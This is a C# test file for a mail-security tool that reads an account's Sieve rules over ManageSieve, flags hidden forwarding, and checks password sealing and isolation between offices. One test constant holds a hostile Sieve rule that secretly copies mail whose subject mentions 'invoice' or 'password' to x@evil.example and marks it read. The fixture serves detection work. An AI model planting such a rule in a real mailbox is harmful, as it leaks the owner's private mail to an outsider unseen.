using System.Net;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Serjeant.Chapters.Cases.Exhibits;
using Serjeant.Data;
using Serjeant.Desk.Tests.Support;
using Serjeant.Outside.Capture.Network;
using Serjeant.Outside.Mailboxes;
using Serjeant.Workers;
using Shouldly;

namespace Serjeant.Desk.Tests.Checks.Forwarding;

/// <summary>Rules of a real account (Dovecot with Pigeonhole), read over ManageSieve, shown on the page and written down.</summary>
public sealed class ForwardingTests
{
    private const string Page = "/checks/forwarding";
    internal const string Jane = "jane@office.example";
    internal const string Hidden = "require [\"copy\", \"imap4flags\"];\r\n# rule:[.]\r\nif header :contains \"subject\" [\"invoice\", \"“password”\"] {\r\n  redirect :copy \"x@evil.example\";\r\n  setflag \"\\\\Seen\";\r\n}\r\n";
    private static readonly CancellationToken Cancel = TestContext.Current.CancellationToken;

    [Fact]
    public async Task Scripts_of_a_real_server_are_read_with_which_is_active()
    {
        await using var servers = await MailServers.StartAsync(Jane);
        await servers.PutAsync(Jane, "main", Hidden, true);
        await servers.PutAsync(Jane, "a \"quoted\" \\ name", "keep;", false);

        var scripts = await Client(servers).ReadAsync(new MailServer("127.0.0.1", servers.SievePort, true), new MailLogin(Jane, MailServers.Password, null), Cancel);

        scripts.OrderBy(s => s.Name, StringComparer.Ordinal).Select(s => (s.Name, s.Active)).ShouldBe([("a \"quoted\" \\ name", false), ("main", true)]);
        scripts.Single(s => s.Active).Text.ShouldBe(Hidden);
        (await Should.ThrowAsync<MailboxException>(() => Client(servers).ReadAsync(new MailServer("127.0.0.1", servers.SievePort, true), new MailLogin(Jane, "wrong", null), Cancel))).Message.ShouldContain("does not accept");
        var untrusting = new ManageSieve(new AddressGuard(new SystemAddressResolver(), servers.Allowed), MailTrust.System);
        (await Should.ThrowAsync<MailboxException>(() => untrusting.ReadAsync(new MailServer("127.0.0.1", servers.SievePort, true), new MailLogin(Jane, MailServers.Password, null), Cancel))).Message.ShouldContain("certificate");
        (await Should.ThrowAsync<MailboxException>(() => Client(servers).ReadAsync(new MailServer("127.0.0.1", servers.ImapPlainPort, true), new MailLogin(Jane, MailServers.Password, null), Cancel))).Message.ShouldNotBeEmpty();
    }

    [Fact]
    public async Task An_account_is_watched_a_rule_is_found_explained_settled_and_seen_to_go()
    {
        await using var servers = await MailServers.StartAsync(Jane);
        await using var desk = await StartAsync(servers);
        var browser = await desk.SignedInAsync(Role.Manager);
        (await WatchAsync(browser, servers)).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        await WorkAsync(desk);
        (await TextAsync(browser)).ShouldContain("Nothing forwards, deletes or hides its mail.");

        await servers.PutAsync(Jane, "main", Hidden, true);
        await NowAsync(browser);
        var text = await TextAsync(browser);
        text.ShouldContain("Mail goes to somebody else");
        text.ShouldContain("A message where Subject contains “invoice” or ““password”” is also sent to x@evil.example and is marked as read.");
        text.ShouldContain("change the account’s password first");
        (await CountAsync(desk, "forwarding.found")).ShouldBe(1);
        (await CountAsync(desk, "forwarding.checked")).ShouldBe(2);

        await NowAsync(browser);
        (await CountAsync(desk, "forwarding.found")).ShouldBe(1, "the same rule again is the same finding");
        (await browser.SubmitAsync(await browser.PageAsync(Page), "form[id^=found-]", null, "button[formaction*=Known]")).StatusCode.ShouldBe(HttpStatusCode.Redirect);
        (await TextAsync(browser)).ShouldContain("A rule that its owner made");

        await servers.PutAsync(Jane, "main", "keep;", true);
        await NowAsync(browser);
        (await TextAsync(browser)).ShouldContain("A rule that is gone");
        (await CountAsync(desk, "forwarding.gone")).ShouldBe(1);
    }

    [Fact]
    public async Task Passwords_are_sealed_and_another_offices_accounts_are_not_found()
    {
        await using var servers = await MailServers.StartAsync(Jane);
        await using var desk = await StartAsync(servers);
        await WatchAsync(await desk.SignedInAsync(Role.Manager), servers);
        var box = await desk.WithDbAsync(db => db.WatchedMailboxes.SingleAsync(Cancel));
        box.Secret.ShouldNotContain(MailServers.Password);
        var theirs = await desk.SignedInAsync(Role.Manager, desk.OtherOfficeId);
        await WatchAsync(theirs, servers);
        foreach (var handler in new[] { "Now", "Remove" })
            (await theirs.SubmitAsync(await theirs.PageAsync(Page), "form[id^=found-]", new Dictionary<string, string> { ["Id"] = $"{box.Id}" }, null, $"{Page}?handler={handler}")).StatusCode.ShouldBe(HttpStatusCode.NotFound);
        (await desk.WithDbAsync(db => db.WatchedMailboxes.CountAsync(Cancel))).ShouldBe(1);
    }

    internal static Task<TestDesk> StartAsync(MailServers servers, TestClock? clock = null) => TestDesk.StartAsync(builder =>
    {
        clock?.Use(builder);
        builder.Services.AddSingleton(new CaptureAllowance(servers.Allowed));
        builder.Services.AddSingleton(servers.Trust);
    });

    private static ManageSieve Client(MailServers servers) => new(new AddressGuard(new SystemAddressResolver(), servers.Allowed), servers.Trust);

    internal static async Task<HttpResponseMessage> WatchAsync(TestBrowser browser, MailServers servers) => await browser.SubmitAsync(await browser.PageAsync(Page), "#watch", new Dictionary<string, string>
    {
        ["Form.Name"] = "Jane’s mail <b>",
        ["Form.Kind"] = "Sieve",
        ["Form.Host"] = "127.0.0.1",
        ["Form.Port"] = $"{servers.SievePort}",
        ["Form.Tls"] = "StartTls",
        ["Form.User"] = Jane,
        ["Form.Password"] = MailServers.Password,
    });

    private static async Task NowAsync(TestBrowser browser) =>
        (await browser.SubmitAsync(await browser.PageAsync(Page), "form[id^=found-]", null, "button[formaction*=Now]")).StatusCode.ShouldBe(HttpStatusCode.Redirect);

    private static async Task WorkAsync(TestDesk desk)
    {
        using var worker = ActivatorUtilities.CreateInstance<ForwardingWorker>(desk.App.Services);
        await worker.RunOneAsync(Cancel);
        for (var i = 0; i < 100 && !await desk.WithDbAsync(db => db.WatchedMailboxes.AnyAsync(m => m.CheckedAt != null, Cancel)); i++) await Task.Delay(100, Cancel);
    }

    private static async Task<string> TextAsync(TestBrowser browser) => string.Join(' ', (await browser.PageAsync(Page)).QuerySelector("main")!.TextContent.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries));

    private static Task<int> CountAsync(TestDesk desk, string action) => desk.WithDbAsync(db => db.LedgerEntries.CountAsync(e => e.Action == action, Cancel));
}
